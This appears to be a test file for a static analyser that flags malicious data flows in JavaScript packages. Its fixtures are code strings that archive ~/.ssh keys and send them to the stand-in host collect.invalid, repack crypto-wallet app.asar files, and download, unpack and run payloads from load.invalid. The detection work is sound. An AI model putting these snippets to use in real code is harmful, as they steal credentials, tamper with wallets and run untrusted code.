import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const SENT = ['ssh-key>network@collect.invalid'];
const PUT = `const put = (b) => fetch('https://collect.invalid', { method: 'PUT', body: b });`;
const KEYS = `path.join(os.homedir(), '.ssh')`;

/** Ways to put a folder into an archive and to send what comes out. */
const WAYS: readonly string[] = [
  `const Zip = require('adm-zip'), z = new Zip(); z.addLocalFolder(${KEYS}); put(z.toBuffer());`,
  `const Zip = require('adm-zip'), z = new Zip(); z.addLocalFile(${KEYS} + '/id_rsa'); z.writeZip('/tmp/z'); put(fs.readFileSync('/tmp/z'));`,
  `const z = require('archiver')('zip'); z.pipe(https.request('https://collect.invalid')); z.directory(${KEYS}, 'k'); z.finalize();`,
  `const z = require('archiver')('tar'), f = fs.createWriteStream('/tmp/t'); z.pipe(f); z.directory(${KEYS}, false);
   f.on('close', () => put(fs.createReadStream('/tmp/t')));`,
  `const Z = require('jszip'), z = new Z(); z.file('k', fs.readFileSync(${KEYS} + '/id_rsa')); z.generateAsync({}).then(put);`,
  `require('tar').c({ gzip: true, cwd: os.homedir() }, ['.ssh']).pipe(https.request('https://collect.invalid'));`,
  `require('tar').create({ file: '/tmp/a.tgz' }, [${KEYS}]).then(() => put(fs.createReadStream('/tmp/a.tgz')));`,
  `require('tar-fs').pack(${KEYS}).pipe(https.request('https://collect.invalid'));`,
];

describe('archives', () => {
  for (const way of WAYS)
    it(`carry what lies in a folder of keys: ${way.slice(0, 70)}`, () => {
      assert.deepEqual([...new Set(flowsOf(`${PUT} ${way}`))], SENT);
    });

  it('of a folder that the caller names, or of the package itself, carry nothing of the kind', () => {
    assert.deepEqual(
      flowsOf(
        `${PUT} exports.f = (d) => { const Z = require('adm-zip'), z = new Z(); z.addLocalFolder(d); put(z.toBuffer()); };`,
      ),
      [],
    );
    assert.deepEqual(flowsOf(`require('tar').c({}, ['dist']).pipe(https.request('https://collect.invalid'));`), []);
  });

  it('of applications that are installed are those applications', () => {
    for (const folder of ['atomic', 'exodus/app-25.13.3', 'Ledger Live'])
      assert.deepEqual(
        behavioursOf(
          `require('@electron/asar').createPackage('/tmp/w', path.join(process.env.LOCALAPPDATA, 'Programs/${folder}/resources/app.asar'));`,
        ),
        ['wallet-changed import'],
        folder,
      );
    const app = `path.join(process.env.LOCALAPPDATA, 'Programs/wallet/resources/app.asar')`;
    assert.deepEqual(behavioursOf(`require('@electron/asar').createPackage('/tmp/w', ${app});`), [
      'application-changed import',
    ]);
  });

  it('leave in a folder what may be run from there', () => {
    const run = (unpack: string, started = `os.tmpdir() + '/x/tool'`) =>
      flowsOf(`fetch('https://load.invalid/a.zip').then((r) => r.arrayBuffer()).then(async (b) => { const out = os.tmpdir() + '/x', file = os.tmpdir() + '/a.zip';
        fs.writeFileSync(file, Buffer.from(b)); ${unpack} cp.spawn(${started}, []); });`);
    for (const unpack of [
      `new (require('adm-zip'))(Buffer.from(b)).extractAllTo(out, true);`,
      `new (require('adm-zip'))(file).extractAllTo(out);`,
      `await require('extract-zip')(file, { dir: out });`,
      `await require('tar').x({ file, cwd: out });`,
    ]) {
      assert.deepEqual(run(unpack), ['downloaded>written-and-run'], unpack);
      assert.deepEqual(run(unpack, `'git'`), [], unpack);
    }
  });

  it('are unpacked where a program of the system runs, and what lay in them may be started', () => {
    const code = (more: string) => `const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'x-'));
      https.get('https://load.invalid/tool.tar.gz', (r) => { const parts = []; r.on('data', (c) => parts.push(c)).on('end', () => {
        fs.writeFileSync(path.join(folder, 'tool.tar.gz'), Buffer.concat(parts));
        cp.execFileSync('tar', ['-xzf', 'tool.tar.gz'], { cwd: folder }); ${more} }); });`;
    assert.deepEqual(
      flowsOf(code(`fs.copyFileSync(path.join(folder, 'tool'), path.join(__dirname, 'bin/tool'));`)),
      [],
    );
    assert.deepEqual(flowsOf(code(`cp.execFileSync(path.join(folder, 'tool'));`)), ['downloaded>written-and-run']);
  });
});
